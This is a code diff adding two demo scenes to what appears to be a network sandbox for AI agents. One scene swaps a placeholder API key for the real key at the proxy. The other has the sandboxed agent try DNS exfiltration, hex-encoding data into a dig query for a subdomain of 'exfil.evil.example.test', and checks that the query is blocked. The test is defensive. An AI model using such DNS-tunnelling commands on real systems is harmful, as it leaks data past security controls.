@@ -9,6 +9,7 @@
  * inside the demo's own namespaces.
  */
 import { existsSync } from 'node:fs';
+import { randomBytes } from 'node:crypto';
 import type { ExecResult } from '../net/topology.js';
 import type { JsonLine } from './json-lines.js';
 import type { DemoServer, DemoWorld, ServerSpec } from './world.js';
@@ -89,7 +90,7 @@ export interface Scene {
 /* The cast: servers and the policy                                                           */
 /* ------------------------------------------------------------------------------------------ */
 
-const BOTH_NAMES = ['api.example.test', 'evil.example.test'];
+const BOTH_NAMES = ['api.example.test', 'llm.example.test', 'evil.example.test'];
 
 /**
  * The fake upstreams (.test is reserved for testing, RFC 6761 §6.2). Both certificates cover both
@@ -97,7 +98,7 @@ const BOTH_NAMES = ['api.example.test', 'evil.example.test'];
  * routing alone, never by a TLS failure.
  */
 export const SERVERS: ServerSpec[] = [
-  { node: 'api', subnet: 2, names: ['api.example.test'], certNames: BOTH_NAMES, listed: true },
+  { node: 'api', subnet: 2, names: ['api.example.test', 'llm.example.test'], certNames: BOTH_NAMES, listed: true },
   { node: 'evil', subnet: 3, names: ['evil.example.test'], certNames: BOTH_NAMES, listed: false },
 ];
 
@@ -111,7 +112,8 @@ export function baseConfig(world: DemoWorld): DemoConfig {
     // sandgate's own interception CA, created on first use; not the demo public CA.
     tls: { caDir: `${world.dir}/sandgate-ca` },
     // The servers live on 10.77.x.2, private addresses sandgate refuses unless listed here.
-    upstream: { hosts, allowPrivate: ['10.77.0.0/16'] },
+    // caFile: the demo public CA plays the public roots, so intercepted calls verify the server.
+    upstream: { hosts, allowPrivate: ['10.77.0.0/16'], caFile: world.caFile },
     sandboxes: [{ name: world.sandbox.name, interface: world.topo.hostIface(world.sandbox.name), cidr: subnet, policy: 'default', user: 'demo-agent' }],
     policies: { default: { mode: 'enforce', allow: [{ host: 'api.example.test', ports: [443, 80] }] } },
   };
@@ -122,6 +124,13 @@ export function baseConfig(world: DemoWorld): DemoConfig {
 const isConn = (l: JsonLine): boolean => l.event === 'conn';
 const hasDatagramFrom = (ip: string) => (l: JsonLine): boolean =>
   typeof l.udp === 'object' && l.udp !== null && String((l.udp as JsonLine).from).startsWith(`${ip}:`);
+
+/** The demo's credential: the real key exists only in sandgate's environment; the sandbox holds the placeholder. */
+const REAL_KEY = `sk-real-${randomBytes(16).toString('hex')}`;
+const PLACEHOLDER = 'sk-sandgate-demo-placeholder';
+
+/** Absolute path of dig, if installed (dnsutils; scripts/provision.sh installs it). */
+export const DIG = ['/usr/bin/dig', '/bin/dig'].find((p) => existsSync(p));
 
 /** Absolute path of ping, if installed (iputils-ping; scripts/provision.sh installs it). */
 export const PING = ['/usr/bin/ping', '/bin/ping'].find((p) => existsSync(p));
@@ -148,6 +157,31 @@ export const SCENES: Scene[] = [
       ctx.check(r.verify === 0 && r.status === 200, 'curl verified the server\'s own certificate: nothing decrypted the call');
       const line = await ctx.audit((l) => isConn(l) && l.host === api.host && l.decision === 'allow');
       ctx.check(line !== undefined, 'audit: allowed by rule, SNI passthrough', 'no "allow" audit line for the call');
+    },
+  },
+  {
+    id: 'placeholder-key',
+    title: 'The agent calls an LLM API with a placeholder key; the real key never enters the sandbox',
+    about: 'llm.example.test has a credential rule: sandgate terminates TLS with a certificate from its own CA (which the sandbox trusts), checks method and path, swaps the placeholder for the real key, and re-encrypts to the verified server. The key lives only in sandgate\'s process.',
+    setup(s) {
+      s.env.DEMO_LLM_KEY = REAL_KEY;
+      s.config.credentials = { ...s.config.credentials, llm: { secret: { env: 'DEMO_LLM_KEY' }, placeholder: PLACEHOLDER } };
+      s.config.policies.default?.allow.push({ host: 'llm.example.test', inject: 'llm', methods: ['GET', 'POST'], paths: ['/v1/**'] });
+    },
+    async run(ctx) {
+      const cacert = `${ctx.config.tls.caDir}/ca.pem`;
+      const url = 'https://llm.example.test/v1/chat/completions';
+      const r = await ctx.curl(['-H', `Authorization: Bearer ${PLACEHOLDER}`, '-H', 'content-type: application/json', '--data', '{"model":"demo","messages":[]}', url], { cacert });
+      ctx.check(r.status === 200 && r.json?.server === 'api', 'the call succeeded through interception', `expected HTTP 200, got ${r.status || `curl exit ${r.code}`}`);
+      const seen = await ctx.waitSeen('api', (l) => typeof l.request === 'object' && (l.request as JsonLine).path === '/v1/chat/completions', 2000);
+      const auth = String(((seen?.request as JsonLine | undefined)?.headers as JsonLine | undefined)?.authorization ?? '');
+      ctx.show(`server received: Authorization: ${auth.slice(0, 14)}... (the real key, ${REAL_KEY.length} characters)`);
+      ctx.check(auth === `Bearer ${REAL_KEY}`, 'the server received the real key, not the placeholder', `the server received "${auth.slice(0, 20)}..."`);
+      ctx.check(!r.stdout.includes(REAL_KEY) && !r.stderr.includes(REAL_KEY), 'nothing the sandbox received contains the real key', 'the real key reached the sandbox');
+      const line = await ctx.audit((l) => l.event === 'http' && l.host === 'llm.example.test' && l.path === '/v1/chat/completions');
+      ctx.check(line?.credential === 'llm' && !JSON.stringify(line).includes(REAL_KEY), 'audit: credential "llm" named, its value never written', 'audit line missing or it carries the key');
+      const denied = await ctx.curl(['-X', 'DELETE', 'https://llm.example.test/admin/users'], { cacert });
+      ctx.check(denied.status === 403 && denied.json?.by === 'sandgate', 'a method/path outside the rule gets 403 with a reason', `expected 403, got ${denied.status || `curl exit ${denied.code}`}`);
     },
   },
   {
@@ -202,6 +236,28 @@ export const SCENES: Scene[] = [
       const line = await ctx.audit((l) => l.event === 'http' && l.host === evil.host && l.decision === 'deny');
       ctx.check(line?.status === 403, 'audit: denied, status 403', 'no "deny" http audit line with status 403');
       ctx.check(ctx.seen('api', 'request').length + ctx.seen('evil', 'request').length === 0, 'neither server received the request', 'a server received the request');
+    },
+  },
+  {
+    id: 'dns-exfiltration',
+    title: 'DNS answers only allowed names; an exfiltration query never leaves the host',
+    about: 'The agent encodes data in a DNS name under a domain it controls and sends the query to an outside resolver address. Every DNS packet from the sandbox, to any address, lands on sandgate\'s responder: allowed names are answered from sandgate\'s own resolution, anything else gets NXDOMAIN and is never forwarded.',
+    async run(ctx) {
+      const evil = ctx.server('evil');
+      if (DIG === undefined) {
+        ctx.skip('dig is not installed (Debian: apt-get install dnsutils); DNS not shown');
+        return;
+      }
+      const secret = Buffer.from('the quarterly numbers').toString('hex');
+      const ok = await ctx.inSandbox(DIG, ['+short', '+time=2', '+tries=1', `@${evil.ip}`, 'llm.example.test'], { show: `dig +short @${evil.ip} llm.example.test` });
+      ctx.show(`dig: ${ok.stdout.trim() || '(no answer)'}`);
+      ctx.check(ok.stdout.trim() === ctx.server('api').ip, 'an allowed name resolves (answered by sandgate, whatever address was asked)', `expected ${ctx.server('api').ip}, got "${ok.stdout.trim()}"`);
+      const bad = await ctx.inSandbox(DIG, ['+time=2', '+tries=1', `@${evil.ip}`, 'TXT', `${secret}.exfil.evil.example.test`], { show: `dig @${evil.ip} TXT ${secret.slice(0, 16)}....exfil.evil.example.test` });
+      const status = /status: (\w+)/.exec(bad.stdout)?.[1] ?? `dig exit ${bad.code}`;
+      ctx.show(`dig: status ${status}`);
+      ctx.check(status === 'NXDOMAIN', 'the exfiltration query got NXDOMAIN', `expected NXDOMAIN, got ${status}`);
+      const line = await ctx.audit((l) => l.event === 'dns' && typeof l.host === 'string' && l.host.startsWith(secret));
+      ctx.check(line?.decision === 'deny', 'audit: the query was denied (and never forwarded)', 'no "deny" dns audit line for the query');
     },
   },
   {
